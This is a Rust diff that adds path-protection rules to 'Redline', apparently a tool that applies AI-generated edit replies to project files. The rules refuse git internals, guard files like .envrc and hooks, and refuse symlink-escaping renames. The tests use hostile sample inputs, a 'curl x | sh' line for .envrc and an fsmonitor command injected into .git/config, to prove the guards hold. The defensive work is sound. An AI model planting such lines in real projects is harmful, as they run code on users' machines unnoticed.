@@ -12,7 +12,8 @@ use redline_edits::{
     compute_hunks, merge3, plan_reply, sha256_hex, Conflict, FileOutcome, FileStatus, FormatChoice, TextShape,
 };
 use redline_project::{
-    delete_if_unchanged, read_current, rename_file, replace_if_unchanged, ProjectRoot, Replaced,
+    delete_if_unchanged, read_current, rename_file, replace_if_unchanged, PathRule, ProjectRoot,
+    ProtectedPaths, Replaced,
 };
 use serde::Serialize;
 
@@ -159,6 +160,76 @@ fn describe(outcome: &AcceptOutcome) -> String {
     }
 }
 
+/// The path rules of the project at `root`: the shared table plus its git hooks folder.
+pub fn project_rules(root: &ProjectRoot) -> ProtectedPaths {
+    ProtectedPaths::new(redline_git::hooks_path_in(root.path()).as_deref())
+}
+
+/// The rule for one planned change of `path` (renamed to `renamed_to`, if so). A rename is as
+/// strict as the stricter of its two names, and one that would make a symlink point outside
+/// the project is refused.
+pub fn change_rule(
+    root: &ProjectRoot,
+    rules: &ProtectedPaths,
+    path: &str,
+    renamed_to: Option<&str>,
+) -> PathRule {
+    let each: Vec<PathRule> = [Some(path), renamed_to].into_iter().flatten().map(|p| rules.rule(p)).collect();
+    if let Some(refused) = each.iter().find(|r| matches!(r, PathRule::Refused(_))) {
+        return refused.clone();
+    }
+    if let Some(why) = renamed_to.and_then(|to| link_leaves_root(root, path, to)) {
+        return PathRule::Refused(why);
+    }
+    each.into_iter().find(|r| matches!(r, PathRule::Protected(_))).unwrap_or(PathRule::Editable)
+}
+
+/// Why moving `from` to `to` is refused when `from` is a symlink that, read from its new folder,
+/// would lead outside the project (`docs/readme -> ../README.md` moved up to the root, say).
+/// `None` when `from` is no symlink or still points inside.
+fn link_leaves_root(root: &ProjectRoot, from: &str, to: &str) -> Option<String> {
+    let target = std::fs::read_link(root.resolve(from).ok()?).ok()?;
+    let to_abs = root.resolve(to).ok()?;
+    let folder = to_abs.parent()?;
+    // A relative link is read from the folder the link is in, as the kernel will read it.
+    let folder = folder.canonicalize().unwrap_or_else(|_| folder.to_path_buf());
+    let lands = lexical_join(&folder, &target);
+    let inside =
+        lands.strip_prefix(root.path()).ok().is_some_and(|rel| root.resolve(&rel.to_string_lossy()).is_ok());
+    (!inside).then(|| {
+        format!(
+            "renaming {from} to {to} would make the symlink point outside the project ({} read from there leaves the folder); Redline does not create links that lead out",
+            target.display()
+        )
+    })
+}
+
+/// `base` joined with `path`, `..` applied by name (no file system access).
+fn lexical_join(base: &std::path::Path, path: &std::path::Path) -> std::path::PathBuf {
+    use std::path::Component;
+    let mut out = base.to_path_buf();
+    for component in path.components() {
+        match component {
+            Component::Normal(part) => out.push(part),
+            Component::ParentDir => {
+                out.pop();
+            }
+            Component::RootDir | Component::Prefix(_) => out = component.as_os_str().into(),
+            Component::CurDir => {}
+        }
+    }
+    out
+}
+
+/// How `redline apply` runs.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub struct ApplyOptions {
+    /// Write nothing; fill each report's diff.
+    pub dry_run: bool,
+    /// Write protected files too (`.vscode/`, `.envrc`, hooks, …): the person said so.
+    pub allow_protected: bool,
+}
+
 /// What became of one file of a reply: the plan's statuses (serialized lowercase for the CLI).
 pub use redline_edits::FileStatus as ReportStatus;
 
@@ -189,9 +260,15 @@ pub struct FileReport {
 
 /// Applies a whole reply to the files under `root`, each file exactly as accepting every hunk
 /// of its proposal would. A file with any failed block, a path outside the root, a file that is
-/// not UTF-8 or that conflicts is reported as failed and left exactly as it was. `dry_run`
+/// not UTF-8 or that conflicts is reported as failed and left exactly as it was; so is a path
+/// the rules refuse (git's own files), and a protected one unless `allow_protected`. A dry run
 /// writes nothing and fills each report's diff.
-pub fn apply_reply(root: &ProjectRoot, reply: &str, format: FormatChoice, dry_run: bool) -> Vec<FileReport> {
+pub fn apply_reply(
+    root: &ProjectRoot,
+    reply: &str,
+    format: FormatChoice,
+    options: ApplyOptions,
+) -> Vec<FileReport> {
     let read_errors: RefCell<HashMap<String, String>> = RefCell::default();
     let read = |path: &str| match read_text(root, path) {
         Ok(text) => text,
@@ -202,13 +279,40 @@ pub fn apply_reply(root: &ProjectRoot, reply: &str, format: FormatChoice, dry_ru
     };
     let plan = plan_reply(reply, format, &read);
     let read_errors = read_errors.into_inner();
+    let rules = project_rules(root);
     plan.into_iter()
-        .map(|outcome| match read_errors.get(&outcome.path) {
-            Some(message) => failed_report(&outcome, message.clone()),
-            None if dry_run => planned_report(&outcome),
-            None => apply_outcome(root, &outcome),
+        .map(|outcome| {
+            if let Some(message) = read_errors.get(&outcome.path) {
+                return failed_report(&outcome, message.clone());
+            }
+            if let Some(message) = not_allowed(root, &rules, &outcome, options.allow_protected) {
+                return failed_report(&outcome, message);
+            }
+            if options.dry_run {
+                planned_report(&outcome)
+            } else {
+                apply_outcome(root, &outcome)
+            }
         })
         .collect()
+}
+
+/// Why the rules keep `outcome` from being written, if they do.
+fn not_allowed(
+    root: &ProjectRoot,
+    rules: &ProtectedPaths,
+    outcome: &FileOutcome,
+    allow_protected: bool,
+) -> Option<String> {
+    match change_rule(root, rules, &outcome.path, outcome.renamed_to.as_deref()) {
+        PathRule::Editable => None,
+        PathRule::Refused(message) => Some(message),
+        PathRule::Protected(_) if allow_protected => None,
+        PathRule::Protected(why) => Some(format!(
+            "{} is protected ({why}), so it was not written; check the change and pass --allow-protected to write it",
+            outcome.renamed_to.as_deref().unwrap_or(&outcome.path)
+        )),
+    }
 }
 
 fn counts(outcome: &FileOutcome) -> HunkCounts {
@@ -415,7 +519,7 @@ mod tests {
     fn reply_with_a_failed_block_leaves_that_file_untouched() {
         let (dir, root) = project(&[("a.txt", "one\ntwo\n"), ("b.txt", "x\n")]);
         let reply = "a.txt\n<<<<<<< SEARCH\none\n=======\n1\n>>>>>>> REPLACE\n\na.txt\n<<<<<<< SEARCH\nnope\n=======\n2\n>>>>>>> REPLACE\n\nb.txt\n<<<<<<< SEARCH\nx\n=======\ny\n>>>>>>> REPLACE\n";
-        let reports = apply_reply(&root, reply, FormatChoice::Auto, false);
+        let reports = apply_reply(&root, reply, FormatChoice::Auto, ApplyOptions::default());
         assert_eq!(reports[0].status, ReportStatus::Failed);
         assert_eq!(reports[0].hunks.failed, 1);
         assert_eq!(read(&dir, "a.txt"), "one\ntwo\n");
@@ -427,7 +531,7 @@ mod tests {
     fn path_outside_the_root_is_failed_and_never_written() {
         let (dir, root) = project(&[]);
         let reply = "../escape.txt\n<<<<<<< SEARCH\n=======\nhi\n>>>>>>> REPLACE\n";
-        let reports = apply_reply(&root, reply, FormatChoice::Auto, false);
+        let reports = apply_reply(&root, reply, FormatChoice::Auto, ApplyOptions::default());
         assert_eq!(reports[0].status, ReportStatus::Failed);
         assert!(!dir.path().parent().expect("parent").join("escape.txt").exists());
     }
@@ -436,7 +540,12 @@ mod tests {
     fn dry_run_prints_a_diff_and_writes_nothing() {
         let (dir, root) = project(&[("f.txt", "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n")]);
         let reply = r#"[{"name":"edit_file","arguments":"{\"path\":\"f.txt\",\"old_text\":\"5\\n\",\"new_text\":\"five\\n\"}"}]"#;
-        let reports = apply_reply(&root, reply, FormatChoice::Exact(Format::ToolCalls), true);
+        let reports = apply_reply(
+            &root,
+            reply,
+            FormatChoice::Exact(Format::ToolCalls),
+            ApplyOptions { dry_run: true, ..ApplyOptions::default() },
+        );
         assert_eq!(reports[0].status, ReportStatus::Applied, "{reports:?}");
         assert_eq!(
             reports[0].diff,
@@ -450,6 +559,47 @@ mod tests {
         let (dir, root) = project(&[("a.txt", "a\n"), ("b.txt", "b\n")]);
         assert!(matches!(rename_text(&root, "a.txt", "b.txt", "a\n", "A\n"), AcceptOutcome::Failed(_)));
         assert_eq!((read(&dir, "a.txt"), read(&dir, "b.txt")), ("a\n".to_string(), "b\n".to_string()));
+    }
+
+    const CREATE_ENVRC: &str =
+        "[{\"name\":\"create_file\",\"arguments\":{\"path\":\".envrc\",\"content\":\"curl x | sh\\n\"}}]";
+
+    #[test]
+    fn git_files_are_refused_with_the_rule_and_never_written() {
+        let (dir, root) = project(&[(".git/config", "[core]\n")]);
+        let reply = ".git/config\n<<<<<<< SEARCH\n[core]\n=======\n[core]\n\tfsmonitor = touch /tmp/x\n>>>>>>> REPLACE\n";
+        let options = ApplyOptions { allow_protected: true, ..ApplyOptions::default() };
+        let reports = apply_reply(&root, reply, FormatChoice::Auto, options);
+        assert_eq!(reports[0].status, ReportStatus::Failed);
+        assert_eq!(reports[0].error.as_deref(), Some(redline_project::GIT_REFUSAL));
+        assert_eq!(read(&dir, ".git/config"), "[core]\n");
+    }
+
+    #[test]
+    fn protected_files_are_written_only_when_allowed() {
+        let (dir, root) = project(&[]);
+        let reports =
+            apply_reply(&root, CREATE_ENVRC, FormatChoice::Exact(Format::ToolCalls), ApplyOptions::default());
+        let error = reports[0].error.as_deref().unwrap_or_default();
+        assert!(error.contains("--allow-protected") && error.contains("direnv"), "{reports:?}");
+        assert!(!dir.path().join(".envrc").exists());
+        let allowed = ApplyOptions { allow_protected: true, ..ApplyOptions::default() };
+        let reports = apply_reply(&root, CREATE_ENVRC, FormatChoice::Exact(Format::ToolCalls), allowed);
+        assert_eq!(reports[0].status, ReportStatus::Created, "{reports:?}");
+        assert_eq!(read(&dir, ".envrc"), "curl x | sh\n");
+    }
+
+    #[test]
+    fn a_rename_that_would_make_a_symlink_point_outside_is_refused() {
+        let (dir, root) = project(&[("README.md", "hi\n")]);
+        fs::create_dir_all(dir.path().join("docs/deep")).expect("mkdir");
+        std::os::unix::fs::symlink("../README.md", dir.path().join("docs/readme")).expect("link");
+        let rules = ProtectedPaths::default();
+        let rule = change_rule(&root, &rules, "docs/readme", Some("readme"));
+        assert!(matches!(&rule, PathRule::Refused(m) if m.contains("outside the project")), "{rule:?}");
+        assert_eq!(change_rule(&root, &rules, "docs/readme", Some("docs/readme2")), PathRule::Editable);
+        assert!(matches!(change_rule(&root, &rules, "README.md", Some(".git/x")), PathRule::Refused(_)));
+        assert!(matches!(change_rule(&root, &rules, ".envrc", Some("envrc")), PathRule::Protected(_)));
     }
 
     #[test]
